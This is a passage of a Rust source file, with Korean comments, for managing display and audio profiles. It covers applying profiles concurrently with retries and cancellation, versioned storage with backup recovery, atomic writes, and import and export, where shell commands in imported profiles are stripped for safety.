@@ -0,0 +1,1601 @@
+// 프로필 데이터와 프로필 단위 처리 (적용, 검사, 비교, 스크립트 내보내기)
+
+use serde::{Deserialize, Serialize};
+use std::collections::HashMap;
+use std::fs;
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::sync::Arc;
+use std::time::Instant;
+
+use crate::audio::{
+    apply_audio_settings, audio_role, capture_audio_settings, device_pattern, diff_audio_settings,
+    resolve_audio_device, resolve_audio_settings, AudioBackend, AudioDevice, AudioSettings, DEVICE_PATTERN_PREFIX,
+};
+use crate::display::layout::check_display_bounds;
+use crate::display::{
+    check_display_modes, check_mirror_scale_factors, diff_displays, display_state_label, displayplacer_args,
+    find_connected, mode_label, remap_connected_ids, supports_resolution, DisplayBackend, DisplayInfo, DisplayMode,
+};
+use crate::error::AppError;
+use crate::privileges::explain_step_failure;
+use crate::tools::{missing_tools, retry_policy, with_retry, RetryPolicy};
+
+#[derive(Debug, Serialize, Deserialize, Clone)]
+pub struct Profile {
+    pub id: String,
+    pub name: String,
+    // 비어 있으면 디스플레이 배치를 바꾸지 않습니다 (오디오만 바꾸는 프로필)
+    #[serde(default)]
+    pub displays: Vec<DisplayInfo>,
+    // None이면 오디오 장치를 바꾸지 않습니다 (디스플레이 배치만 바꾸는 프로필)
+    #[serde(default)]
+    pub audio_settings: Option<AudioSettings>,
+    #[serde(default)]
+    pub created_at: String,
+    #[serde(default)]
+    pub tags: Vec<String>,
+    // 트레이 아이콘 배지 색상 ("#RRGGBB")
+    #[serde(default)]
+    pub color: Option<String>,
+    // 창에 초점이 없어도 이 프로필을 적용하는 전역 단축키 (예: "CmdOrCtrl+Shift+1")
+    #[serde(default)]
+    pub hotkey: Option<String>,
+    // 적용하기 전 / 디스플레이와 오디오를 모두 적용한 뒤 실행할 셸 명령 (예: OBS 실행)
+    #[serde(default)]
+    pub pre_apply_command: Option<String>,
+    #[serde(default)]
+    pub post_apply_command: Option<String>,
+    // 이 오디오 장치 id가 새로 연결되면 프로필의 오디오 설정을 자동으로 적용 (분리되면 아무것도 하지 않음)
+    #[serde(default)]
+    pub auto_apply_on_device: Option<String>,
+    // 출력 장치가 디스플레이에 달린 경우 (HDMI / DisplayPort 모니터 스피커)
+    // 켜면 디스플레이를 켠 뒤에야 나타나는 장치로 바꿀 수 있도록 오디오를 디스플레이 다음에 적용합니다
+    #[serde(default)]
+    pub output_follows_display: bool,
+}
+
+// 프로필 적용 결과
+#[derive(Debug, Serialize, Clone)]
+pub struct ApplyReport {
+    pub profile_id: String,
+    // 적용 단계별로 실제 작업을 수행한 백엔드 (예: {"display": "displayplacer (bundled)", "audio": "nircmd"})
+    pub backend_used: HashMap<String, String>,
+    // 적용은 되었지만 사용자가 알아야 할 문제
+    pub warnings: Vec<String>,
+    // 단계별 소요 시간 (밀리초, backend_used와 같은 키)
+    pub step_durations_ms: HashMap<String, u64>,
+    // 단계별 결과 (취소된 단계는 Cancelled)
+    pub steps: HashMap<String, StepStatus>,
+    // 단계별로 성공하기까지 다시 시도한 횟수
+    pub retries: HashMap<String, u32>,
+    // 실패한 단계의 오류 (다른 단계는 따로 적용되었을 수 있습니다)
+    pub errors: HashMap<String, AppError>,
+}
+
+// 보고할 때의 단계 순서 (첫 오류를 고를 때 사용)
+const APPLY_STEPS: &[&str] = &["display", "audio"];
+
+impl ApplyReport {
+    pub fn cancelled(&self) -> bool {
+        self.steps.values().any(|status| *status == StepStatus::Cancelled)
+    }
+
+    // 실패한 단계가 있으면 첫 오류 (디스플레이 → 오디오 순)
+    pub fn error(&self) -> Option<&AppError> {
+        APPLY_STEPS.iter().find_map(|step| self.errors.get(*step))
+    }
+}
+
+#[derive(Debug, Serialize, Clone, Copy, PartialEq, Eq)]
+#[serde(rename_all = "snake_case")]
+pub enum StepStatus {
+    Applied,
+    // 취소 요청 뒤라 실행하지 않은 단계
+    Cancelled,
+    // 오류는 ApplyReport.errors에 있습니다
+    Failed,
+}
+
+// 진행 중인 적용의 취소 신호 (복제본끼리 공유)
+// 이미 실행한 단계는 되돌리지 않고 남은 단계만 건너뜁니다
+#[derive(Debug, Clone, Default)]
+pub struct CancellationToken(Arc<AtomicBool>);
+
+impl CancellationToken {
+    pub fn new() -> Self {
+        Self::default()
+    }
+
+    pub fn cancel(&self) {
+        self.0.store(true, Ordering::SeqCst);
+    }
+
+    pub fn is_cancelled(&self) -> bool {
+        self.0.load(Ordering::SeqCst)
+    }
+
+    // 같은 적용의 토큰인지 (복제본이면 true)
+    pub fn same_as(&self, other: &CancellationToken) -> bool {
+        Arc::ptr_eq(&self.0, &other.0)
+    }
+}
+
+// 한 단계의 실행 결과
+enum StepOutcome {
+    Cancelled,
+    Applied { backend: String, retries: u32, elapsed_ms: u64 },
+    Failed { error: AppError, retries: u32, elapsed_ms: u64 },
+}
+
+// 취소되었으면 실행하지 않고, 일시적인 실패는 정책에 따라 다시 시도
+fn run_step(
+    step: &str,
+    cancel: &CancellationToken,
+    retry: &RetryPolicy,
+    apply: impl FnMut() -> Result<String, AppError>,
+) -> StepOutcome {
+    if cancel.is_cancelled() {
+        log::info!("적용 단계 {}: 취소되어 건너뜁니다", step);
+        return StepOutcome::Cancelled;
+    }
+
+    let started = Instant::now();
+    let (result, retries) = with_retry(step, retry, || cancel.is_cancelled(), apply);
+    let elapsed_ms = started.elapsed().as_millis() as u64;
+    match result {
+        Ok(backend) => {
+            log::info!("적용 단계 {}: {}ms (재시도 {}회)", step, elapsed_ms, retries);
+            StepOutcome::Applied { backend, retries, elapsed_ms }
+        }
+        Err(error) => {
+            // 권한이 없어 거부된 경우 필요한 권한을 알려 줍니다
+            let error = explain_step_failure(step, error);
+            log::warn!("적용 단계 {} 실패 ({}ms, 재시도 {}회): {}", step, elapsed_ms, retries, error);
+            StepOutcome::Failed { error, retries, elapsed_ms }
+        }
+    }
+}
+
+// 적용 단계를 실행하며 백엔드, 소요 시간, 결과를 모읍니다
+struct ApplySteps<'a> {
+    cancel: &'a CancellationToken,
+    retry: RetryPolicy,
+    backend_used: HashMap<String, String>,
+    step_durations_ms: HashMap<String, u64>,
+    steps: HashMap<String, StepStatus>,
+    retries: HashMap<String, u32>,
+    errors: HashMap<String, AppError>,
+}
+
+impl<'a> ApplySteps<'a> {
+    fn new(cancel: &'a CancellationToken) -> Self {
+        Self {
+            cancel,
+            retry: retry_policy(),
+            backend_used: HashMap::new(),
+            step_durations_ms: HashMap::new(),
+            steps: HashMap::new(),
+            retries: HashMap::new(),
+            errors: HashMap::new(),
+        }
+    }
+
+    fn record(&mut self, step: &str, outcome: StepOutcome) {
+        let step = step.to_string();
+        let status = match outcome {
+            StepOutcome::Cancelled => StepStatus::Cancelled,
+            StepOutcome::Applied { backend, retries, elapsed_ms } => {
+                self.backend_used.insert(step.clone(), backend);
+                self.retries.insert(step.clone(), retries);
+                self.step_durations_ms.insert(step.clone(), elapsed_ms);
+                StepStatus::Applied
+            }
+            StepOutcome::Failed { error, retries, elapsed_ms } => {
+                self.errors.insert(step.clone(), error);
+                self.retries.insert(step.clone(), retries);
+                self.step_durations_ms.insert(step.clone(), elapsed_ms);
+                StepStatus::Failed
+            }
+        };
+        self.steps.insert(step, status);
+    }
+
+    // 디스플레이와 오디오는 서로 의존하지 않으므로 동시에 실행하고 각각의 결과를 기록합니다
+    // sequential이면 (output_follows_display) 디스플레이가 끝난 뒤 오디오를 실행합니다
+    // (None인 단계는 실행하지 않고 결과에도 남기지 않습니다)
+    fn run_display_and_audio(
+        &mut self,
+        sequential: bool,
+        display: Option<impl FnMut() -> Result<String, AppError> + Send>,
+        audio: Option<impl FnMut() -> Result<String, AppError> + Send>,
+    ) {
+        let (cancel, retry) = (self.cancel, &self.retry);
+        let (display, audio) = if sequential {
+            let display = display.map(|apply| run_step("display", cancel, retry, apply));
+            (display, audio.map(|apply| run_step("audio", cancel, retry, apply)))
+        } else {
+            std::thread::scope(|scope| {
+                let display = display.map(|apply| {
+                    scope.spawn(move || run_step("display", cancel, retry, apply))
+                });
+                let audio = audio.map(|apply| run_step("audio", cancel, retry, apply));
+                let display = display.map(|handle| {
+                    handle.join().unwrap_or_else(|_| StepOutcome::Failed {
+                        error: AppError::Internal { detail: "display step panicked".to_string() },
+                        retries: 0,
+                        elapsed_ms: 0,
+                    })
+                });
+                (display, audio)
+            })
+        };
+        if let Some(display) = display {
+            self.record("display", display);
+        }
+        if let Some(audio) = audio {
+            self.record("audio", audio);
+        }
+    }
+
+    fn into_report(self, profile_id: &str, warnings: Vec<String>) -> ApplyReport {
+        ApplyReport {
+            profile_id: profile_id.to_string(),
+            backend_used: self.backend_used,
+            warnings,
+            step_durations_ms: self.step_durations_ms,
+            steps: self.steps,
+            retries: self.retries,
+            errors: self.errors,
+        }
+    }
+}
+
+// 프로필 파일 형식 버전 (버전 없이 목록만 저장한 이전 형식은 1)
+pub const PROFILES_SCHEMA_VERSION: u32 = 2;
+
+#[derive(Serialize)]
+struct ProfilesFile<'a> {
+    schema_version: u32,
+    profiles: &'a [Profile],
+}
+
+// 손상된 프로필 파일을 백업으로 되돌린 기록 (프론트엔드에 경고로 표시)
+#[derive(Debug, Serialize, Clone)]
+pub struct ProfilesRecovery {
+    // 확인용으로 보관한 손상된 파일
+    pub corrupt_file: String,
+    pub detail: String,
+    pub recovered_at: String,
+    // 백업도 읽을 수 없어 빈 목록으로 시작했으면 false
+    pub restored_from_backup: bool,
+}
+
+// 같은 디렉터리에서 파일 이름 뒤에 붙인 경로 (예: profiles.json.bak)
+fn with_suffix(path: &std::path::Path, suffix: &str) -> std::path::PathBuf {
+    let mut name = path.file_name().unwrap_or_default().to_os_string();
+    name.push(suffix);
+    path.with_file_name(name)
+}
+
+// 마지막으로 정상이던 프로필 파일
+pub fn profiles_backup_file(profiles_file: &std::path::Path) -> std::path::PathBuf {
+    with_suffix(profiles_file, ".bak")
+}
+
+// 파일 내용을 형식 버전에 맞게 읽기 (읽은 파일의 버전도 반환)
+// 이전 버전에 없던 프로필 필드는 serde 기본값으로 채워집니다
+fn parse_profiles(path: &std::path::Path, content: &str) -> Result<(Vec<Profile>, u64), AppError> {
+    let value: serde_json::Value = serde_json::from_str(content).map_err(|e| AppError::corrupt_file(path, &e))?;
+    let (version, profiles) = match value {
+        serde_json::Value::Object(mut file) => (
+            // 직접 만든 파일은 "version"으로 적었을 수 있습니다
+            file.get("schema_version")
+                .or_else(|| file.get("version"))
+                .and_then(|version| version.as_u64())
+                .unwrap_or(1),
+            file.remove("profiles").unwrap_or_default(),
+        ),
+        // 버전 1: 프로필 목록만 저장 (프로필 내용은 버전 2와 같습니다)
+        profiles => (1, profiles),
+    };
+    if version > PROFILES_SCHEMA_VERSION as u64 {
+        return Err(AppError::UnsupportedProfilesVersion {
+            path: path.display().to_string(),
+            version: version.to_string(),
+        });
+    }
+    let profiles = serde_json::from_value(profiles).map_err(|e| AppError::corrupt_file(path, &e))?;
+    Ok((profiles, version))
+}
+
+// 프로필 파일 읽기 (앱 상태 없이 명령줄 모드에서도 사용)
+pub fn read_profiles_file(profiles_file: &std::path::Path) -> Result<Vec<Profile>, AppError> {
+    read_profiles_file_recovering(profiles_file).map(|(profiles, _)| profiles)
+}
+
+// 프로필 파일을 읽고, 손상되었으면 백업으로 되돌립니다
+// 손상된 파일은 profiles.json.corrupt-{시각}으로 남기며, 백업도 읽을 수 없으면 빈 목록으로 시작합니다
+// (시작이 막히지 않도록, 손상된 파일은 따로 남겨 두므로 다음 저장이 덮어쓰지 않습니다)
+pub fn read_profiles_file_recovering(
+    profiles_file: &std::path::Path,
+) -> Result<(Vec<Profile>, Option<ProfilesRecovery>), AppError> {
+    if !profiles_file.exists() {
+        return Ok((Vec::new(), None));
+    }
+    let content = fs::read_to_string(profiles_file).map_err(|e| AppError::io(profiles_file, &e))?;
+    let error = match parse_profiles(profiles_file, &content) {
+        Ok((profiles, version)) if version < PROFILES_SCHEMA_VERSION as u64 => {
+            // 이전 형식은 현재 형식으로 다시 저장합니다 (이전 파일은 profiles.json.bak으로 보관)
+            match write_profiles_file(profiles_file, &profiles) {
+                Ok(()) => log::info!("프로필 파일을 버전 {}에서 {}로 바꿨습니다", version, PROFILES_SCHEMA_VERSION),
+                Err(e) => log::warn!("이전 형식의 프로필 파일을 다시 저장하지 못했습니다: {}", e),
+            }
+            return Ok((profiles, None));
+        }
+        Ok((profiles, _)) => return Ok((profiles, None)),
+        Err(e @ AppError::CorruptFile { .. }) => e,
+        Err(e) => return Err(e),
+    };
+
+    let backup_file = profiles_backup_file(profiles_file);
+    let backup = fs::read_to_string(&backup_file).ok().and_then(|backup| {
+        let (profiles, _) = parse_profiles(&backup_file, &backup).ok()?;
+        Some((backup, profiles))
+    });
+    let timestamp = chrono::Local::now().format("%Y%m%d-%H%M%S");
+    let corrupt_file = with_suffix(profiles_file, &format!(".corrupt-{}", timestamp));
+    fs::rename(profiles_file, &corrupt_file).map_err(|e| AppError::io(profiles_file, &e))?;
+    let restored_from_backup = backup.is_some();
+    let profiles = match backup {
+        Some((backup, profiles)) => {
+            write_atomic(profiles_file, backup.as_bytes()).map_err(|e| AppError::io(profiles_file, &e))?;
+            log::warn!("손상된 프로필 파일을 백업으로 되돌렸습니다 ({}): {}", corrupt_file.display(), error);
+            profiles
+        }
+        None => {
+            log::warn!("손상된 프로필 파일을 읽을 수 없고 백업도 없어 빈 목록으로 시작합니다 ({}): {}", corrupt_file.display(), error);
+            Vec::new()
+        }
+    };
+
+    Ok((
+        profiles,
+        Some(ProfilesRecovery {
+            corrupt_file: corrupt_file.display().to_string(),
+            detail: error.to_string(),
+            recovered_at: chrono::Local::now().to_rfc3339(),
+            restored_from_backup,
+        }),
+    ))
+}
+
+// 현재 형식으로 저장하고, 그 전의 정상 파일은 profiles.json.bak으로 보관합니다
+pub fn write_profiles_file(profiles_file: &std::path::Path, profiles: &[Profile]) -> Result<(), AppError> {
+    if let Ok(previous) = fs::read_to_string(profiles_file) {
+        if parse_profiles(profiles_file, &previous).is_ok() {
+            if let Err(e) = write_atomic(&profiles_backup_file(profiles_file), previous.as_bytes()) {
+                log::warn!("프로필 백업 실패: {}", e);
+            }
+        }
+    }
+    let file = ProfilesFile { schema_version: PROFILES_SCHEMA_VERSION, profiles };
+    let content = serde_json::to_string_pretty(&file)
+        .map_err(|e| AppError::Internal { detail: format!("Failed to serialize profiles: {}", e) })?;
+    write_atomic(profiles_file, content.as_bytes()).map_err(|e| AppError::io(profiles_file, &e))
+}
+
+// 프로필 내보내기 파일 형식 버전 (형식이 바뀌면 올리고, 가져오기에서 읽을 수 있는 버전을 확인합니다)
+pub const PROFILE_EXPORT_VERSION: u32 = 1;
+
+// 다른 컴퓨터로 옮기기 위한 내보내기 파일
+#[derive(Debug, Serialize, Deserialize)]
+pub struct ProfileExport {
+    pub format_version: u32,
+    // 내보낸 컴퓨터의 OS (std::env::consts::OS, 예: "macos")
+    pub platform: String,
+    pub exported_at: String,
+    pub profiles: Vec<Profile>,
+}
+
+pub fn write_profile_export(path: &std::path::Path, profiles: &[Profile]) -> Result<(), AppError> {
+    let export = ProfileExport {
+        format_version: PROFILE_EXPORT_VERSION,
+        platform: std::env::consts::OS.to_string(),
+        exported_at: chrono::Local::now().to_rfc3339(),
+        profiles: profiles.to_vec(),
+    };
+    let content = serde_json::to_string_pretty(&export)
+        .map_err(|e| AppError::Internal { detail: format!("Failed to serialize profiles: {}", e) })?;
+    write_atomic(path, content.as_bytes()).map_err(|e| AppError::io(path, &e))
+}
+
+// 버전을 먼저 확인한 뒤 내용을 읽습니다 (다른 버전의 형식은 내용 오류 대신 버전 오류로 알림)
+pub fn read_profile_export(path: &std::path::Path) -> Result<Vec<Profile>, AppError> {
+    let content = fs::read_to_string(path).map_err(|e| AppError::io(path, &e))?;
+    let value: serde_json::Value = serde_json::from_str(&content).map_err(|e| AppError::corrupt_file(path, &e))?;
+    let version = value.get("format_version").and_then(|version| version.as_u64());
+    if version != Some(PROFILE_EXPORT_VERSION as u64) {
+        return Err(AppError::UnsupportedExportVersion {
+            path: path.display().to_string(),
+            version: version.map_or_else(|| "-".to_string(), |version| version.to_string()),
+        });
+    }
+    let export: ProfileExport = serde_json::from_value(value).map_err(|e| AppError::corrupt_file(path, &e))?;
+    if export.platform != std::env::consts::OS {
+        log::info!("{}에서 내보낸 프로필을 가져옵니다 (디스플레이 id가 다를 수 있음)", export.platform);
+    }
+    Ok(export.profiles)
+}
+
+// 가져온 프로필을 목록에 합치고 가져온 프로필 이름을 반환
+// overwrite면 id가 같은 프로필을 바꾸고, 아니면 새 id와 " (imported)"를 붙인 이름으로 추가합니다
+// 파일에 든 적용 전/후 명령은 받은 파일로 임의의 명령을 실행하게 되므로 버립니다 (덮어쓰면 기존 프로필의 명령 유지)
+pub fn merge_imported_profiles(profiles: &mut Vec<Profile>, imported: Vec<Profile>, overwrite: bool) -> Vec<String> {
+    let mut names = Vec::new();
+    for mut profile in imported {
+        if profile.pre_apply_command.is_some() || profile.post_apply_command.is_some() {
+            log::warn!("가져온 프로필 {}의 적용 전/후 명령은 가져오지 않습니다", profile.name);
+        }
+        profile.pre_apply_command = None;
+        profile.post_apply_command = None;
+        match profiles.iter().position(|existing| existing.id == profile.id) {
+            Some(pos) if overwrite => {
+                profile.pre_apply_command = profiles[pos].pre_apply_command.take();
+                profile.post_apply_command = profiles[pos].post_apply_command.take();
+                profiles[pos] = profile.clone();
+            }
+            Some(_) => {
+                profile.id = uuid::Uuid::new_v4().to_string();
+                profile.name = suggest_profile_name(&format!("{} (imported)", profile.name.trim()), profiles);
+                profiles.push(profile.clone());
+            }
+            None => profiles.push(profile.clone()),
+        }
+        names.push(profile.name);
+    }
+    names
+}
+
+// 목록 전체를 가져온 프로필로 바꾸고 이름을 반환 (파일 안에서 id가 겹치면 뒤의 프로필)
+pub fn replace_with_imported_profiles(profiles: &mut Vec<Profile>, imported: Vec<Profile>) -> Vec<String> {
+    profiles.clear();
+    merge_imported_profiles(profiles, imported, true);
+    profiles.iter().map(|profile| profile.name.clone()).collect()
+}
+
+// 같은 디렉터리의 임시 파일({이름}.tmp)에 쓰고 디스크에 기록한 뒤 이름 바꾸기
+pub fn write_atomic(path: &std::path::Path, content: &[u8]) -> std::io::Result<()> {
+    write_atomic_with_mode(path, content, None)
+}
+
+// write_atomic과 같지만 unix에서는 소유자만 읽고 쓸 수 있는 파일(0600)로 만듭니다 (토큰이 든 파일)
+pub fn write_atomic_private(path: &std::path::Path, content: &[u8]) -> std::io::Result<()> {
+    write_atomic_with_mode(path, content, Some(0o600))
+}
+
+fn write_atomic_with_mode(path: &std::path::Path, content: &[u8], mode: Option<u32>) -> std::io::Result<()> {
+    use std::io::Write;
+
+    if let Some(parent) = path.parent() {
+        fs::create_dir_all(parent)?;
+    }
+    let temp = with_suffix(path, ".tmp");
+    let mut options = fs::OpenOptions::new();
+    options.write(true).create(true).truncate(true);
+    if let Some(mode) = mode {
+        // 권한은 파일을 새로 만들 때만 정해지므로 남은 임시 파일을 지웁니다
+        let _ = fs::remove_file(&temp);
+        #[cfg(unix)]
+        std::os::unix::fs::OpenOptionsExt::mode(&mut options, mode);
+        #[cfg(not(unix))]
+        let _ = mode;
+    }
+    let mut file = options.open(&temp)?;
+    file.write_all(content)?;
+    file.sync_all()?;
+    drop(file);
+    fs::rename(&temp, path)
+}
+
+// 프로필 적용 (단계별 실패는 오류로 돌려주지 않고 ApplyReport.errors에 모읍니다)
+pub fn apply_profile_settings(
+    profile: &Profile,
+    displays: &dyn DisplayBackend,
+    audio: &dyn AudioBackend,
+    cancel: &CancellationToken,
+) -> Result<ApplyReport, AppError> {
+    check_required_tools(profile, displays, audio)?;
+    let mut steps = ApplySteps::new(cancel);
+    let mut brightness_skipped = Vec::new();
+
+    // 디스플레이와 오디오 설정을 동시에 적용 (한쪽이 실패해도 다른 쪽은 적용됩니다, output_follows_display면 차례로)
+    steps.run_display_and_audio(
+        profile.output_follows_display,
+        (!profile.displays.is_empty()).then_some(|| {
+            check_display_modes(displays, &profile.displays)?;
+            apply_displays(displays, &profile.displays, &mut brightness_skipped)
+        }),
+        profile.audio_settings.as_ref().map(|settings| move || apply_audio_settings(audio, settings)),
+    );
+    let mut warnings = brightness_warnings(&brightness_skipped);
+    warnings.extend(check_mirror_scale_factors(&profile.displays));
+
+    Ok(steps.into_report(&profile.id, warnings))
+}
+
+// 디스플레이 단계: 적용하고 밝기를 바꾸지 못한 디스플레이를 brightness_skipped에 남김 (재시도하면 마지막 시도의 결과)
+fn apply_displays(
+    displays: &dyn DisplayBackend,
+    profile_displays: &[DisplayInfo],
+    brightness_skipped: &mut Vec<String>,
+) -> Result<String, AppError> {
+    let applied = displays.apply_reporting(profile_displays)?;
+    *brightness_skipped = applied.brightness_skipped;
+    Ok(applied.backend)
+}
+
+fn brightness_warnings(skipped: &[String]) -> Vec<String> {
+    skipped.iter().map(|name| format!("{}: 밝기를 바꿀 수 없어 건너뜁니다", name)).collect()
+}
+
+// 적용 진행 상황 (앱은 같은 이름의 Tauri 이벤트로 보내고, 라이브러리 사용자는 콜백으로 받습니다)
+#[derive(Debug, Clone, Copy)]
+pub enum ApplyEvent<'a> {
+    Started { profile_id: &'a str },
+    // report는 단계를 실행한 뒤 실패한 경우에만 있습니다 (다른 단계는 적용되었을 수 있음)
+    Failed { profile_id: &'a str, error: &'a AppError, report: Option<&'a ApplyReport> },
+    Cancelled(&'a ApplyReport),
+    Applied(&'a ApplyReport),
+}
+
+impl ApplyEvent<'_> {
+    pub fn name(&self) -> &'static str {
+        match self {
+            ApplyEvent::Started { .. } => "apply-started",
+            ApplyEvent::Failed { .. } => "apply-failed",
+            ApplyEvent::Cancelled(_) => "profile-apply-cancelled",
+            ApplyEvent::Applied(_) => "profile-applied",
+        }
+    }
+
+    pub fn payload(&self) -> serde_json::Value {
+        match self {
+            ApplyEvent::Started { profile_id } => serde_json::json!(profile_id),
+            ApplyEvent::Failed { profile_id, error, report: None } => {
+                serde_json::json!({ "profile_id": profile_id, "error": error })
+            }
+            ApplyEvent::Failed { profile_id, error, report: Some(report) } => {
+                serde_json::json!({ "profile_id": profile_id, "error": error, "report": report })
+            }
+            ApplyEvent::Cancelled(report) | ApplyEvent::Applied(report) => serde_json::json!(report),
+        }
+    }
+}
+
+// 프로필을 적용하며 진행 상황을 on_event로 알림
+// 실패한 단계가 있으면 첫 오류를 반환하고, 취소된 경우는 보고서를 그대로 반환합니다
+pub fn apply_profile_with_events(
+    profile: &Profile,
+    displays: &dyn DisplayBackend,
+    audio: &dyn AudioBackend,
+    cancel: &CancellationToken,
+    on_event: &dyn Fn(ApplyEvent),
+) -> Result<ApplyReport, AppError> {
+    on_event(ApplyEvent::Started { profile_id: &profile.id });
+    let report = match apply_profile_settings(profile, displays, audio, cancel) {
+        Ok(report) => report,
+        Err(error) => {
+            on_event(ApplyEvent::Failed { profile_id: &profile.id, error: &error, report: None });
+            return Err(error);
+        }
+    };
+    if let Some(error) = report.error() {
+        on_event(ApplyEvent::Failed { profile_id: &profile.id, error, report: Some(&report) });
+        return Err(error.clone());
+    }
+    if report.cancelled() {
+        on_event(ApplyEvent::Cancelled(&report));
+    } else {
+        on_event(ApplyEvent::Applied(&report));
+    }
+    Ok(report)
+}
+
+// 지금 연결된 디스플레이만 적용 (프로필에 없는 디스플레이는 움직이지 않음)
+// 연결되지 않아 건너뛴 디스플레이는 경고로 알립니다
+pub fn apply_profile_partial_settings(
+    profile: &Profile,
+    displays: &dyn DisplayBackend,
+    audio: &dyn AudioBackend,
+    cancel: &CancellationToken,
+) -> Result<ApplyReport, AppError> {
+    check_required_tools(profile, displays, audio)?;
+    let connected = displays.enumerate()?;
+    let (present, missing) = split_connected_displays(&profile.displays, &connected);
+    let mut steps = ApplySteps::new(cancel);
+    let mut warnings: Vec<String> = missing
+        .iter()
+        .map(|display| format!("{}: 연결되어 있지 않아 건너뜁니다", display.name))
+        .collect();
+
+    let mut brightness_skipped = Vec::new();
+
+    steps.run_display_and_audio(
+        profile.output_follows_display,
+        (!present.is_empty()).then_some(|| {
+            check_display_modes(displays, &present)?;
+            apply_displays(displays, &present, &mut brightness_skipped)
+        }),
+        profile.audio_settings.as_ref().map(|settings| move || apply_audio_settings(audio, settings)),
+    );
+    warnings.extend(brightness_warnings(&brightness_skipped));
+    warnings.extend(check_mirror_scale_factors(&present));
+
+    Ok(steps.into_report(&profile.id, warnings))
+}
+
+// 프로필의 디스플레이를 연결된 것과 연결되지 않은 것으로 나눔 (연결된 것은 지금의 id로 바꿈)
+// 미러링 원본이 빠진 디스플레이는 미러링 없이 자기 위치에 둡니다
+pub fn split_connected_displays(
+    profile_displays: &[DisplayInfo],
+    connected: &[DisplayInfo],
+) -> (Vec<DisplayInfo>, Vec<DisplayInfo>) {
+    let (present, missing): (Vec<_>, Vec<_>) = remap_connected_ids(profile_displays, connected)
+        .into_iter()
+        .zip(profile_displays)
+        .partition(|(_, stored)| find_connected(stored, connected).is_some());
+    let mut present: Vec<DisplayInfo> = present.into_iter().map(|(display, _)| display).collect();
+    let missing = missing.into_iter().map(|(display, _)| display).collect();
+    let present_ids: Vec<u32> = present.iter().map(|display| display.id).collect();
+    for display in present.iter_mut() {
+        if display.mirror_of.is_some_and(|source| !present_ids.contains(&source)) {
+            display.mirror_of = None;
+        }
+    }
+    (present, missing)
+}
+
+// 저장/적용 전 검사 (디스플레이 위치, 역할 이름, 장치 패턴)
+// 손상된 프로필 파일에 대비해 적용할 때도 다시 확인합니다
+pub fn validate_profile(profile: &Profile, desktop_limit: i32) -> Result<(), AppError> {
+    if profile.displays.is_empty() && profile.audio_settings.is_none() {
+        return Err(AppError::EmptyProfile { profile_id: profile.id.clone() });
+    }
+    // 모든 화면이 꺼지면 되돌릴 방법이 없으므로 하나는 켜져 있어야 합니다
+    if !profile.displays.is_empty() && profile.displays.iter().all(|display| !display.enabled) {
+        return Err(AppError::AllDisplaysDisabled { profile_id: profile.id.clone() });
+    }
+    check_display_bounds(&profile.displays, desktop_limit)?;
+    let too_bright =
+        profile.displays.iter().find_map(|display| Some((display, display.brightness.filter(|b| *b > 100)?)));
+    if let Some((display, brightness)) = too_bright {
+        return Err(AppError::InvalidBrightness { display: display.name.clone(), brightness: brightness.to_string() });
+    }
+    let Some(audio_settings) = &profile.audio_settings else {
+        return Ok(());
+    };
+    for role in audio_settings.output_roles.iter().flat_map(|roles| roles.keys()) {
+        audio_role(role)?;
+    }
+    for device in [&audio_settings.output_device, &audio_settings.input_device].into_iter().flatten() {
+        device_pattern(device)?;
+    }
+    Ok(())
+}
+
+// 적용 전 확인 결과 (validate_profile 명령, 아무것도 바꾸지 않음)
+#[derive(Debug, Serialize, Clone, PartialEq)]
+pub struct ValidationReport {
+    pub profile_id: String,
+    pub displays: Vec<DisplayValidation>,
+    pub audio: Vec<AudioValidation>,
+    // 적용에 필요하지만 번들과 PATH 어디에도 없는 도구
+    pub missing_tools: Vec<String>,
+}
+
+#[derive(Debug, Serialize, Clone, PartialEq)]
+pub struct DisplayValidation {
+    pub display_id: u32,
+    pub display_name: String,
+    #[serde(flatten)]
+    pub status: DisplayCheck,
+}
+
+#[derive(Debug, Serialize, Clone, PartialEq)]
+#[serde(tag = "status", rename_all = "snake_case")]
+pub enum DisplayCheck {
+    Unchanged,
+    // from은 현재 상태, to는 적용 후 상태 (display_state_label)
+    WillChange { from: String, to: String },
+    MissingDisplay,
+    // 모니터의 모드 목록에 프로필의 해상도가 없음
+    UnsupportedMode { mode: String },
+}
+
+#[derive(Debug, Serialize, Clone, PartialEq)]
+pub struct AudioValidation {
+    pub device_type: String,
+    // 프로필에 저장된 장치 (id, 이름 또는 "re:" 패턴)
+    pub device: String,
+    #[serde(flatten)]
+    pub status: AudioCheck,
+}
+
+#[derive(Debug, Serialize, Clone, Copy, PartialEq, Eq)]
+#[serde(tag = "status", rename_all = "snake_case")]
+pub enum AudioCheck {
+    Ok,
+    DeviceMissing,
+}
+
+// 프로필을 주어진 구성에 적용하면 무엇이 바뀌는지 (modes에 없는 디스플레이는 해상도를 확인하지 않음)
+pub fn validation_report(
+    profile: &Profile,
+    connected: &[DisplayInfo],
+    modes: &HashMap<u32, Vec<DisplayMode>>,
+    devices: &[AudioDevice],
+    missing_tools: Vec<String>,
+) -> ValidationReport {
+    let displays = profile
+        .displays
+        .iter()
+        .map(|display| DisplayValidation {
+            display_id: display.id,
+            display_name: display.name.clone(),
+            status: display_check(display, connected, modes.get(&display.id)),
+        })
+        .collect();
+
+    let audio = profile
+        .audio_settings
+        .iter()
+        .flat_map(|settings| [("output", &settings.output_device), ("input", &settings.input_device)])
+        .filter_map(|(device_type, device)| Some((device_type, device.as_deref()?)))
+        .map(|(device_type, device)| AudioValidation {
+            device_type: device_type.to_string(),
+            device: device.to_string(),
+            status: if audio_device_present(device, device_type, devices) {
+                AudioCheck::Ok
+            } else {
+                AudioCheck::DeviceMissing
+            },
+        })
+        .collect();
+
+    ValidationReport { profile_id: profile.id.clone(), displays, audio, missing_tools }
+}
+
+fn display_check(expected: &DisplayInfo, connected: &[DisplayInfo], modes: Option<&Vec<DisplayMode>>) -> DisplayCheck {
+    let Some(current) = find_connected(expected, connected) else {
+        // 꺼 둘 디스플레이는 목록에 없으면 이미 꺼진 것 (Windows와 macOS는 꺼진 디스플레이를 나열하지 않음)
+        return if expected.enabled { DisplayCheck::MissingDisplay } else { DisplayCheck::Unchanged };
+    };
+    if expected.enabled && modes.is_some_and(|modes| !modes.is_empty() && !supports_resolution(expected, modes)) {
+        return DisplayCheck::UnsupportedMode { mode: mode_label(expected) };
+    }
+    if diff_displays(std::slice::from_ref(expected), std::slice::from_ref(current)).is_empty() {
+        DisplayCheck::Unchanged
+    } else {
